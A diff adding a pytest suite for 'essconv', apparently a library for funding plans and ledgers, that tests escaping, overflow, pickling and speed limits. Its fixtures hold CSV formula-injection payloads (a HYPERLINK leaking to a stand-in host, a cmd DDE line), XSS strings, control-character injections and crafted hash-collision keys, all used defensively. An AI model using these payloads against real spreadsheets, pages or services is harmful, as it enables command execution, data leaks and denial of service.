@@ -1,0 +1,581 @@
+"""Hostile tables and careless colleagues: no blow-up, no injection, no lie, objects that travel.
+
+Blow-ups are bounded as a ratio to a linear baseline timed in the same test (the best of a few
+runs of each), never as an absolute time: the machine is shared and its speed varies.
+"""
+from __future__ import annotations
+
+import re
+import time
+import zipfile
+from array import array
+from decimal import Decimal
+from pathlib import Path
+
+import pytest
+
+import essconv
+from essconv.cli import main
+
+
+def best_time(fn, repeat: int = 3) -> float:
+    best = float("inf")
+    for _ in range(repeat):
+        start = time.perf_counter()
+        fn()
+        best = min(best, time.perf_counter() - start)
+    return max(best, 1e-6)
+
+
+# ---------------------------------------------------------------------------- blow-ups
+
+def test_pivot_is_near_linear_in_distinct_row_labels():
+    n = 40_000                     # quadratic before: ~350x the group-by at this size
+    rows = [f"bénéficiaire {i}" for i in range(n)]
+    ledger = essconv.Ledger.from_columns(
+        {"r": rows, "c": ["CR", "CDC"] * (n // 2), "m": array("q", range(n))}, amount="m",
+        cents=True)
+    pivot = ledger.pivot("r", "c")
+    group_by = best_time(lambda: ledger.group_by("r", "c").sum())
+    pivoting = best_time(lambda: ledger.pivot("r", "c"), repeat=2)
+    assert pivoting < 40 * group_by + 0.05, (pivoting, group_by)
+    # and right: every cell equals a Decimal twin summed in Python
+    assert pivot.lines == rows and pivot.funders == ["CR", "CDC"]
+    for i in (0, 1, n // 2, n - 1):
+        funder = "CR" if i % 2 == 0 else "CDC"
+        assert pivot.cell(i, funder) == Decimal(i) / 100
+        assert pivot.cell(i, "CDC" if funder == "CR" else "CR") is None
+    assert pivot.total() == sum(Decimal(i) / 100 for i in range(n))
+
+
+def test_pivot_with_groups_orders_lines_under_their_group():
+    ledger = essconv.Ledger.from_columns(
+        {"axe": ["B", "A", "B", "A", None], "ligne": ["x", "y", "y", "x", "z"],
+         "f": ["CDC", "CR", "CR", "CDC", "CR"], "m": [1, 2, 3, 4, 5]}, amount="m")
+    plan = ledger.pivot(("axe", "ligne"), "f")
+    assert plan.axes == ["(missing)", "B", "A"]          # dictionary order: first seen first
+    assert [(plan.axis_of(i), l) for i, l in enumerate(plan.lines)] == [
+        ("(missing)", "z"), ("B", "x"), ("B", "y"), ("A", "x"), ("A", "y")]
+    assert plan.cell(("A", "x"), "CDC") == 4 and plan.cell(("B", "y"), "CR") == 3
+    assert plan.total() == 15
+
+
+@pytest.mark.parametrize("threads", [1, 2])
+def test_group_by_integer_keys_multiples_of_2_pow_44_hash_like_any(threads):
+    n = 40_000                       # quadratic before: 0.7 s against 0.003 s
+    amounts = array("q", [1] * n)
+    plain = essconv.Ledger.from_columns({"k": list(range(n)), "m": amounts}, amount="m", cents=True)
+    strided = essconv.Ledger.from_columns({"k": [i << 44 for i in range(n)], "m": amounts},
+                                          amount="m", cents=True)
+    from essconv.ledger import GroupBy
+    baseline = best_time(lambda: GroupBy(plain, ["k"], threads).sum())
+    hostile = best_time(lambda: GroupBy(strided, ["k"], threads).sum())
+    assert hostile < 10 * baseline + 0.05, (hostile, baseline)
+    sums = GroupBy(strided, ["k"], threads).sum().to_dict()
+    assert len(sums) == n and sums[(n - 1) << 44] == Decimal("0.01")
+    # two keys whose composite strides are large powers of two: still one group per pair
+    pairs = essconv.Ledger.from_columns(
+        {"a": [i << 44 for i in range(n)], "b": [(i % 7) << 40 for i in range(n)], "m": amounts},
+        amount="m", cents=True)
+    both = best_time(lambda: pairs.group_by("a", "b").sum())
+    assert both < 20 * baseline + 0.05, (both, baseline)
+
+
+@pytest.mark.parametrize("text, error", [
+    ("1E+999999999", essconv.MoneyOverflowError), ("-1E+999999999", essconv.MoneyOverflowError),
+    ("1E-999999999", essconv.AmountError)])
+def test_a_decimal_with_a_huge_exponent_is_refused_on_its_exponent(text, error):
+    from essconv.money import to_cents
+    baseline = best_time(lambda: to_cents(Decimal("123456789.12")))
+    def refuse():
+        with pytest.raises(error):
+            to_cents(Decimal(text))
+    assert best_time(refuse) < 50 * baseline + 0.001
+    with pytest.raises(error):
+        essconv.Ledger.from_columns({"f": ["a"], "m": [Decimal(text)]}, amount="m")
+
+
+def test_zero_at_any_exponent_is_zero_and_in_reach_values_still_parse():
+    from essconv.money import to_cents
+    assert to_cents(Decimal("0E+999999999")) == 0 == to_cents(Decimal("-0E-999999999"))
+    assert to_cents(Decimal("1.5E+2")) == 15000 and to_cents(Decimal("12.50")) == 1250
+    with pytest.raises(essconv.MoneyOverflowError):
+        to_cents(Decimal("1E+21"))
+    with pytest.raises(essconv.AmountError):
+        to_cents(Decimal("1E-21"))
+
+
+# ---------------------------------------------------------------------------- money edges
+
+def test_an_open_lower_bound_keeps_a_row_of_int64_min_cents():
+    ledger = essconv.Ledger.from_columns(
+        {"f": ["a", "b", "c"], "m": array("q", [-(2**63), 5, 2**63 - 1])}, amount="m", cents=True)
+    assert ledger.filter(m=(None, 0)).values("f") == ["a"]
+    assert ledger.filter(m=(None, None)).values("f") == ["a", "b", "c"]
+    ints = essconv.Ledger.from_columns({"y": [None, 3, -5], "m": [1, 2, 3]}, amount="m")
+    assert ints.filter(y=(None, 10)).values("y") == [3, -5]    # missing is not in a range
+
+
+# ---------------------------------------------------------------------------- injection
+
+HOSTILE_TSV = (
+    'Axe\tLigne\t=HYPERLINK("http://x.example/?leak")\tCR\tTotal\n'
+    "@SUM(A1)\t+cmd|' /C calc'!A0\t-12,50\t3\t-9,50\n"
+    "\t-2+3+cmd\t=1+1\t4\t5\n"
+    "Total\t\t-12,50\t7\t-4,50\n")
+
+
+@pytest.fixture
+def hostile_plan(tmp_path: Path) -> Path:
+    path = tmp_path / "plan-hostile.tsv"
+    path.write_text(HOSTILE_TSV, encoding="utf-8")
+    return path
+
+
+@pytest.mark.parametrize("to, sep", [("csv", ";"), ("tsv", "\t")])
+def test_convert_neutralizes_formulas_but_keeps_amounts_numbers(hostile_plan, tmp_path, to, sep):
+    import csv
+    out = tmp_path / f"out.{to}"
+    assert main(["convert", str(hostile_plan), "--to", to, "-o", str(out)]) == 0
+    rows = list(csv.reader(out.open(encoding="utf-8"), delimiter=sep))
+    cells = [c for row in rows for c in row]
+    assert '\'=HYPERLINK("http://x.example/?leak")' in cells
+    assert "'@SUM(A1)" in cells and "'+cmd|' /C calc'!A0" in cells and "'-2+3+cmd" in cells
+    assert "'=1+1" in cells                        # text in an amount's place is text
+    assert rows[1][2] == "-12,50" and rows[1][4] == "-9,50" and rows[3][4] == "-4,50"
+    for c in cells:                                # nothing a spreadsheet would run
+        assert not c.startswith(("=", "+", "@", "\t", "\r")), c
+        assert not c.startswith("-") or re.fullmatch(r"-[\d ]+(,\d+)?", c), c
+
+
+def test_convert_without_the_guard_writes_cells_verbatim(hostile_plan, tmp_path):
+    import csv
+    out = tmp_path / "out.csv"
+    assert main(["convert", str(hostile_plan), "--to", "csv", "-o", str(out),
+                 "--no-formula-guard"]) == 0
+    cells = [c for row in csv.reader(out.open(encoding="utf-8"), delimiter=";") for c in row]
+    assert "@SUM(A1)" in cells and "-2+3+cmd" in cells and "=1+1" in cells
+    from essconv.export import plan_delimited
+    plan = essconv.read_plan(hostile_plan)
+    assert plan_delimited(plan, ";", formula_guard=False) == out.read_text(encoding="utf-8")
+
+
+def test_xlsx_export_writes_labels_as_strings_never_formulas(hostile_plan, tmp_path):
+    openpyxl = pytest.importorskip("openpyxl")
+    out = tmp_path / "out.xlsx"
+    assert main(["convert", str(hostile_plan), "--to", "xlsx", "-o", str(out)]) == 0
+    with zipfile.ZipFile(out) as z:
+        sheets = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/")]
+    assert sheets and not any("<f>" in s or "<f " in s for s in sheets)
+    wb = openpyxl.load_workbook(out)
+    ws = wb.worksheets[0]
+    assert ws.cell(1, 3).value == '=HYPERLINK("http://x.example/?leak")'
+    assert ws.cell(1, 3).data_type == "s" and ws.cell(2, 1).data_type == "s"
+    assert ws.cell(2, 3).value == Decimal("-12.5") or ws.cell(2, 3).value == -12.5
+    assert ws.cell(2, 3).data_type == "n"           # the amount stays a number
+    findings = wb["Constats"]   # the findings sheet, in the committee's language
+    assert all(c.data_type != "f" for row in findings.iter_rows() for c in row)
+
+
+def test_xlsx_export_shows_control_characters_instead_of_failing(tmp_path):
+    openpyxl = pytest.importorskip("openpyxl")
+    source = tmp_path / "plan-ctl.tsv"
+    source.write_bytes(b"Ligne\tCR\x07\tCDC\tTotal\nA\x1b[31mB\t1\t\t2\nTotal\t1\t\t2\n")
+    out = tmp_path / "out.xlsx"
+    assert main(["convert", str(source), "--to", "xlsx", "-o", str(out)]) == 0
+    wb = openpyxl.load_workbook(out)
+    assert wb.worksheets[0].cell(1, 2).value == "CR\ufffd"
+    assert wb.worksheets[0].cell(2, 1).value == "A\ufffd[31mB"
+    assert "Constats" in wb.sheetnames          # the row total is wrong: findings written too
+
+
+HOSTILE_TOML = r'''
+[convention]
+title = "Convention <script>alert(1)</script> & co"
+territory = "Bretagne"
+start = 2020-01-01
+end = 2022-12-31
+
+[[parties]]
+code = "ETAT"
+name = "L'Etat <u>evil</u>"
+kind = "state"
+signatory = true
+
+[[bodies]]
+name = "Comité\u0007 des financeurs"
+meetings_per_year = 2
+members = ["les signataires"]
+roles = ["décide\r du plan\u0000; vote"]
+
+[[milestones]]
+date = 2021-06-30
+label = "Bilan\r à mi-parcours\u0000\u0007\u001b[31m\u007f fin"
+'''
+
+
+def test_ics_export_has_no_control_character(tmp_path):
+    from essconv.calendar import to_ics
+    path = tmp_path / "hostile.toml"
+    path.write_text(HOSTILE_TOML, encoding="utf-8")
+    ics = to_ics(essconv.load(path), 2021)
+    body = ics.replace("\r\n", "")                  # the line ends RFC 5545 wants, and only them
+    assert not re.search(r"[\x00-\x08\x0a-\x1f\x7f]", body), repr(body)
+    assert "SUMMARY:Bilan\\n à mi-parcours[31m fin" in body
+    assert "DESCRIPTION:décide\\n du plan\\; vote" in body
+
+
+def test_html_outputs_escape_labels(tmp_path):
+    path = tmp_path / "hostile.toml"
+    path.write_text(HOSTILE_TOML, encoding="utf-8")
+    conv = essconv.load(path)
+    plan = essconv.read_plan(
+        "Ligne\t<img src=x onerror=alert(1)>\tTotal\n<script>x</script>\t1\t1\nTotal\t1\t2\n"
+        .encode())
+    from essconv.dashboard import render
+    for html in (plan._repr_html_(), plan.validate()._repr_html_(), conv._repr_html_(),
+                 render(conv), plan.pivot()._repr_html_()):
+        assert "<script>" not in html and "<img" not in html and "<u>evil" not in html
+    assert "&lt;script&gt;" in plan._repr_html_() and "&lt;img" in plan._repr_html_()
+
+
+def test_repr_of_a_pivot_whose_total_overflows_shows_the_overflow():
+    ledger = essconv.Ledger.from_columns(
+        {"f": ["a", "b"], "g": ["x", "x"], "m": array("q", [2**62, 2**62])}, amount="m",
+        cents=True)
+    pivot = ledger.pivot("g", "f")
+    assert "overflow" in repr(pivot) and "2 funders" in repr(pivot)
+    with pytest.raises(essconv.MoneyOverflowError):
+        pivot.total()                               # asked for, the sum still refuses
+
+
+# ---------------------------------------------------------------------------- descriptions that lie
+
+DESCRIPTION_HEAD = '''[convention]
+title = "T"
+territory = "B"
+start = 2020-01-01
+end = 2022-12-31
+'''
+
+
+def load_text(tmp_path: Path, text: str):
+    path = tmp_path / "lying.toml"
+    path.write_text(DESCRIPTION_HEAD + text, encoding="utf-8")
+    return essconv.load(path)
+
+
+@pytest.mark.parametrize("parties, message", [
+    ('[[parties]]\ncode = "CR"\nname = "R"\nkind = "region"\naliases = ["c-dc"]\n'
+     '[[parties]]\ncode = "CDC"\nname = "C"\nkind = "other"\n', "is the code of 'CDC'"),
+    ('[[parties]]\ncode = "CDC"\nname = "C"\nkind = "other"\n'
+     '[[parties]]\ncode = "CR"\nname = "R"\nkind = "region"\naliases = ["CDC"]\n',
+     "is the code of 'CDC'"),
+    ('[[parties]]\ncode = "CR"\nname = "R"\nkind = "region"\naliases = ["Région"]\n'
+     '[[parties]]\ncode = "CDC"\nname = "C"\nkind = "other"\naliases = ["RÉGION"]\n',
+     "is an alias of 'CR'")])
+def test_an_alias_cannot_take_over_another_party(tmp_path, parties, message):
+    with pytest.raises(essconv.DescriptionError, match=message) as info:
+        load_text(tmp_path, parties)
+    assert info.value.key.endswith(".aliases") and info.value.path.endswith("lying.toml")
+
+
+def test_an_alias_of_its_own_code_is_harmless(tmp_path):
+    conv = load_text(tmp_path, '[[parties]]\ncode = "CDC"\nname = "C"\nkind = "other"\n'
+                               'aliases = ["cdc", "Caisse"]\n')
+    assert conv.party_of("Caisse").code == "CDC"
+    assert essconv.default().party_of("CDC").code == "CDC"
+
+
+@pytest.mark.parametrize("value", ["[" * 3000 + "]" * 3000, "{a=" * 3000 + "1" + "}" * 3000])
+def test_deep_nesting_is_a_description_error_naming_the_key(tmp_path, value):
+    with pytest.raises(essconv.DescriptionError) as info:
+        load_text(tmp_path, f"deep_value = {value}\n")
+    assert info.value.key == "deep_value" and info.value.line == 6
+    assert isinstance(info.value, ValueError)
+
+
+@pytest.mark.parametrize("count", [2**40, 2**63, -(2**40)])
+def test_meetings_per_year_past_a_c_int_is_a_description_error(tmp_path, count):
+    with pytest.raises(essconv.DescriptionError, match="expected 0 to 366") as info:
+        load_text(tmp_path, f'[[bodies]]\nname = "B"\nmeetings_per_year = {count}\n')
+    assert info.value.key == "bodies[0].meetings_per_year"
+
+
+# ---------------------------------------------------------------------------- objects travel
+
+def _same_ledger(a, b) -> None:
+    assert a.columns == b.columns and a.kinds == b.kinds and len(a) == len(b)
+    assert a.blank_rows == b.blank_rows and a.path == b.path
+    assert [str(p) for p in a.bad_rows] == [str(p) for p in b.bad_rows]
+    for name in a.columns:
+        assert a.values(name) == b.values(name)
+        if a.kinds[name] == "label":
+            assert a.labels(name) == b.labels(name)
+
+
+def scdl_ledger():
+    data = Path(__file__).parent / "data" / "scdl" / "lot-2017-subventions.csv"
+    return essconv.read_scdl(data)
+
+
+@pytest.mark.parametrize("protocol", [2, 4, 5])
+def test_a_ledger_pickles_exactly(protocol):
+    import pickle
+    ledger = scdl_ledger()
+    back = pickle.loads(pickle.dumps(ledger, protocol=protocol))
+    _same_ledger(ledger, back)
+    assert back.total() == ledger.total() and back.blank_rows > 0
+    back.extend(ledger)                            # the copy is a ledger of its own
+    assert len(back) == 2 * len(ledger) and len(ledger) == len(back) // 2
+
+
+def test_protocol_5_sends_ledger_columns_out_of_band_without_a_per_row_cost():
+    import pickle
+    n = 200_000
+    ledger = essconv.Ledger.from_columns(
+        {"f": [f"f{i % 97}" for i in range(n)], "annee": [2009 + i % 5 for i in range(n)],
+         "m": array("q", range(n))}, amount="m", cents=True)
+    other = essconv.Ledger.from_columns({"f": ["f0"], "annee": [2009], "m": array("q", [1])},
+                                        amount="m", cents=True)
+    buffers: list = []
+    data = pickle.dumps(ledger, protocol=5, buffer_callback=buffers.append)
+    assert len(buffers) == 3 and len(data) < 10_000          # the rows are not in the pickle
+    assert sum(memoryview(b).nbytes for b in buffers) == n * (4 + 8 + 8)
+    with pytest.raises(BufferError):
+        ledger.extend(other)                       # the columns are lent out meanwhile
+    back = pickle.loads(data, buffers=buffers)
+    _same_ledger(ledger, back)
+    del buffers
+    ledger.extend(back)                            # returned: the ledger may change again
+    # no per-row cost: the round trip of three columns takes a fraction of what turning ONE
+    # column into Python ints takes (a per-row pickle would take many times it)
+    with back.column("annee") as view:
+        per_row = best_time(view.tolist)
+    trip = best_time(lambda: _round_trip5(back))
+    assert trip < per_row / 2, (trip, per_row)
+
+
+def _round_trip5(obj):
+    import pickle
+    buffers: list = []
+    data = pickle.dumps(obj, protocol=5, buffer_callback=buffers.append)
+    return pickle.loads(data, buffers=buffers)
+
+
+def test_copies_are_independent_and_exact():
+    import copy
+    ledger = scdl_ledger()
+    for twin in (copy.copy(ledger), copy.deepcopy(ledger)):
+        _same_ledger(ledger, twin)
+        twin.extend(ledger)
+        assert len(twin) == 2 * len(ledger)
+    plan = essconv.default().plan(2009)
+    for twin in (copy.copy(plan), copy.deepcopy(plan)):
+        assert twin.to_rows(as_printed=True) == plan.to_rows(as_printed=True)
+        assert twin._core is not plan._core
+
+
+def test_plans_reports_aggregates_and_conventions_pickle_exactly():
+    import pickle
+    conv = essconv.default()
+    plan = conv.plan(2009)
+    fixed = plan.with_corrections(plan.validate())
+    pivot = scdl_ledger().pivot("nomAttribuant", "nature") if "nature" in scdl_ledger().columns \
+        else scdl_ledger().pivot("nomAttribuant", "nomBeneficiaire")
+    for p in (plan, fixed, pivot):
+        back = pickle.loads(pickle.dumps(p))
+        assert back._core.state() == p._core.state()
+        assert [str(f) for f in back.validate()] == [str(f) for f in p.validate()]
+        assert back.year == p.year and back.path == p.path and back.title == p.title
+        assert str(back) == str(p)
+    report = plan.validate(conv)
+    back = pickle.loads(pickle.dumps(report))
+    assert [str(f) for f in back] == [str(f) for f in report] and back.plan.total() == 8105
+    assert back.ok is False and back.suggestions[0].code == report.suggestions[0].code
+    agg = scdl_ledger().group_by("nomAttribuant").agg()
+    back = pickle.loads(pickle.dumps(agg, protocol=5))
+    assert back.to_dict() == agg.to_dict() and repr(back) == repr(agg)
+    assert back.select("count").to_dict() == agg.select("count").to_dict()
+    conv_back = pickle.loads(pickle.dumps(conv))
+    assert conv_back.party_of("DRTEFP").code == "ETAT" and conv_back.party_of("CG-67") is None
+    assert conv_back.meetings(2010) == conv.meetings(2010)
+    assert conv_back.plan(2009).validate().codes() == plan.validate().codes()
+    assert [p.code for p in conv_back.signatories] == [p.code for p in conv.signatories]
+
+
+def test_a_ledger_goes_to_a_spawn_worker_and_back():
+    import copy
+    import multiprocessing
+    ledger = scdl_ledger()
+    with multiprocessing.get_context("spawn").Pool(1) as pool:
+        assert pool.apply(essconv.Ledger.total, (ledger,)) == ledger.total()
+        back = pool.apply(copy.copy, (ledger,))
+        agg = pool.apply(essconv.Ledger.group_by, (ledger, "nomAttribuant"))
+    _same_ledger(ledger, back)
+    assert agg.sum().to_dict() == ledger.group_by("nomAttribuant").sum().to_dict()
+
+
+# ---------------------------------------------------------------------------- displays
+
+def big_plan_bytes(lines: int, funders: int) -> bytes:
+    head = "Axe\tLigne\t" + "\t".join(f"F{j}" for j in range(funders)) + "\tTotal\n"
+    rows = [(f"Axe {i // 50}" if i % 50 == 0 else "") + f"\tligne {i}\t"
+            + "\t".join(str(1 + (i + j) % 3) for j in range(funders)) + "\t0\n"
+            for i in range(lines)]
+    return (head + "".join(rows) + "Total\t" + "\t0" * funders + "\t0\n").encode()
+
+
+def test_plan_displays_are_bounded_and_show_both_ends():
+    lines, funders = 800, 30            # str() took ~5 s before (cubic in lines)
+    data = big_plan_bytes(lines, funders)
+    read = best_time(lambda: essconv.read_plan(data))
+    plan = essconv.read_plan(data)
+    text_time = best_time(lambda: str(plan), repeat=2)
+    html_time = best_time(lambda: plan._repr_html_(), repeat=2)
+    assert text_time < 10 * read + 0.05 and html_time < 10 * read + 0.05, (text_time, html_time,
+                                                                           read)
+    text, html = str(plan), plan._repr_html_()
+    for shown in ("ligne 0 ", "ligne 19 ", "ligne 780 ", "ligne 799 ", " F0 ", " F29 "):
+        assert shown in text + " ", shown
+    assert "ligne 400 " not in text and " F15 " not in text and "…" in text
+    assert "(800 lignes × 30 financeurs)" in text
+    assert "<td>ligne 799</td>" in html and "<td>ligne 400</td>" not in html
+    assert "<th>F29</th>" in html and "<th>F15</th>" not in html
+    # the last axis's subtotal for F29, against a Decimal twin summed in Python
+    last_axis = [i for i in range(750, 800)]
+    twin = sum(Decimal(1 + (i + 29) % 3) for i in last_axis)
+    sub = next(l for l in text.splitlines()[::-1] if "= sous-total" in l)
+    assert sub.split()[-3] == str(twin)             # ... F29, "Total" (blank), (cells)
+    assert text.count("sous-total") == 1       # only the last axis ends among the lines shown
+
+
+def test_a_plan_display_scales_linearly_not_worse():
+    small, large = big_plan_bytes(400, 10), big_plan_bytes(1600, 10)
+    p_small, p_large = essconv.read_plan(small), essconv.read_plan(large)
+    t_small = best_time(lambda: (str(p_small), p_small._repr_html_()))
+    t_large = best_time(lambda: (str(p_large), p_large._repr_html_()))
+    assert t_large < 10 * t_small + 0.02, (t_large, t_small)      # 4x the lines: not 16x
+
+
+def test_ledger_head_and_displays_convert_only_the_rows_shown():
+    n = 300_000                         # as many distinct labels as rows: no whole dictionary
+    ledger = essconv.Ledger.from_columns(
+        {"f": [f"f{i}" for i in range(n)], "annee": [2009 + i % 5 for i in range(n)],
+         "k": list(range(n)), "m": array("q", range(n))}, amount="m", cents=True)
+    with ledger.column("annee") as view:
+        one_column = best_time(view.tolist)     # converting ONE column: a per-row baseline
+    assert best_time(lambda: ledger.head(2)) < one_column / 5
+    assert best_time(lambda: ledger._repr_html_()) < one_column / 2
+    assert ledger.head(2) == [{"f": "f0", "annee": 2009, "k": 0, "m": Decimal(0)},
+                              {"f": "f1", "annee": 2010, "k": 1, "m": Decimal("0.01")}]
+    assert ledger.tail(1) == [{"f": f"f{n - 1}", "annee": 2009 + (n - 1) % 5,
+                               "k": n - 1, "m": Decimal(n - 1) / 100}]
+    html = ledger._repr_html_()
+    assert "f9<" in html and f"f{n - 1}<" in html and f"{n - 15} more rows" in html
+    assert ledger.values("f")[n // 2] == f"f{n // 2}"   # whole columns still read the dictionary
+    agg = ledger.group_by("k").sum()                 # 300 000 groups
+    assert best_time(lambda: agg._repr_html_()) < one_column / 2
+    assert "299950 more groups" in agg._repr_html_()
+
+
+def test_displays_show_an_overflow_instead_of_raising():
+    ledger = essconv.Ledger.from_columns(
+        {"f": ["a", "b"], "g": ["x", "x"], "m": array("q", [2**62, 2**62])}, amount="m",
+        cents=True)
+    pivot = ledger.pivot("g", "f")
+    assert "> int64" in str(pivot)
+    assert "46\u202f116\u202f860\u202f184\u202f273\u202f879,04" in pivot._repr_html_()     # each cell, shown
+    assert "overflow" in repr(ledger) and "> int64" in ledger._repr_html_()
+
+
+def test_a_forged_plan_state_is_refused_not_a_crash():
+    from essconv import _core
+    good = essconv.default().plan(2009)._core.state()
+    unit, year, corner, title, tc, tr, lines, funders, groups, line_groups, cells = good
+    forged = [
+        (unit, year, corner, title, tc, tr, lines, funders, groups, line_groups, cells[:-1]),
+        (unit, year, corner, title, tc, tr, lines, funders, groups, [99] * len(lines), cells),
+        (7, year, corner, title, tc, tr, lines, funders, groups, line_groups, cells),
+        (unit, year, corner, title, tc, tr, lines, funders, groups, line_groups,
+         [(9, 0, None, 0, 0)] * len(cells)),
+        (unit, year, corner, title, tc, tr, lines + ["x"], funders, groups, line_groups, cells),
+    ]
+    for state in forged:
+        with pytest.raises((ValueError, TypeError)):
+            _core.Plan.from_state(state)
+    assert _core.Plan.from_state(good).state() == good
+
+
+def test_a_plan_pivot_display_shows_both_ends_in_bounded_time():
+    data = big_plan_bytes(1500, 60)     # 90 000 cells: str() formatted every one before
+    plan = essconv.read_plan(data)
+    read = best_time(lambda: essconv.read_plan(data))
+    pivot = plan.pivot()
+    shown = best_time(lambda: (str(pivot), pivot._repr_html_()))
+    assert shown < 10 * read + 0.05, (shown, read)
+    text = str(pivot)
+    assert "  ligne 0 " in text and "  ligne 1499 " in text and "ligne 700 " not in text
+    assert " F59 " in text and " F30 " not in text and "…" in text
+    assert len(pivot.to_rows()) == 1 + 1500 + 30 + 1           # the full table stays available
+    last = next(l for l in text.splitlines() if l.startswith("  ligne 1499 "))
+    assert last.split()[-1] == str(sum(1 + (1499 + j) % 3 for j in range(60)))
+
+
+def test_by_line_is_linear_in_lines_and_keys_repeated_labels_by_axis():
+    data = big_plan_bytes(6000, 2)      # list.count per line: ~0.5 s before
+    plan = essconv.read_plan(data)
+    read = best_time(lambda: essconv.read_plan(data))
+    assert best_time(plan.by_line) < 10 * read + 0.05
+    assert plan.by_line()["ligne 5999"] == sum(1 + (5999 + j) % 3 for j in range(2))
+    twice = essconv.read_plan(b"Axe\tLigne\tCR\tTotal\nA\tx\t1\t1\nB\tx\t2\t2\n\ty\t3\t3\n"
+                              b"Total\t\t6\t6\n")
+    assert twice.by_line() == {("A", "x"): 1, ("B", "x"): 2, "y": 3}
+
+
+def test_a_report_with_thousands_of_findings_shows_the_first_hundred():
+    lines = 3000                      # every stated line total wrong: 3 000 row-total errors
+    body = "".join(f"ligne {i}\t1\t1\t5\n" for i in range(lines))
+    data = f"Ligne\tCR\tCDC\tTotal\n{body}Total\t{lines}\t{lines}\t{5 * lines}\n".encode()
+    plan = essconv.read_plan(data)
+    report = plan.validate()
+    assert len(report.errors) >= lines
+    html = report._repr_html_()
+    assert html.count("<li") == 101 and f"… et {len(report) - 100} autres constats" in html
+    assert "ligne 0" in html and "ligne 2999:" not in html
+    read = best_time(lambda: essconv.read_plan(data))
+    assert best_time(plan._repr_html_) < 10 * read + 0.05 + best_time(plan.validate)
+
+
+_M64 = (1 << 64) - 1
+
+
+def _unmix64(y: int) -> int:
+    """The inverse of the splitmix64 finalizer: keys chosen to share a slot of an unseeded
+    table (what an attacker who read the source could compute offline)."""
+    def unshift(v: int, s: int) -> int:
+        x = v
+        for _ in range(64 // s + 1):
+            x = v ^ (x >> s)
+        return x & _M64
+    x = unshift(y, 31)
+    x = (x * pow(0x94D049BB133111EB, -1, 1 << 64)) & _M64
+    x = unshift(x, 27)
+    x = (x * pow(0xBF58476D1CE4E5B9, -1, 1 << 64)) & _M64
+    return unshift(x, 30)
+
+
+def test_integer_keys_crafted_against_the_mixing_function_do_not_collide():
+    n = 40_000
+    crafted = [_unmix64(i << 32) for i in range(1, n + 1)]      # all in slot 0 unseeded
+    crafted = [v - (1 << 64) if v >= 1 << 63 else v for v in crafted]
+    assert len(set(crafted)) == n and -(2**63) not in crafted
+    amounts = array("q", [1] * n)
+    plain = essconv.Ledger.from_columns({"k": list(range(n)), "m": amounts}, amount="m",
+                                        cents=True)
+    hostile = essconv.Ledger.from_columns({"k": crafted, "m": amounts}, amount="m", cents=True)
+    baseline = best_time(lambda: plain.group_by("k").sum())
+    attacked = best_time(lambda: hostile.group_by("k").sum())
+    assert attacked < 10 * baseline + 0.05, (attacked, baseline)
+    sums = hostile.group_by("k").sum().to_dict()
+    assert len(sums) == n and sums[crafted[-1]] == Decimal("0.01")
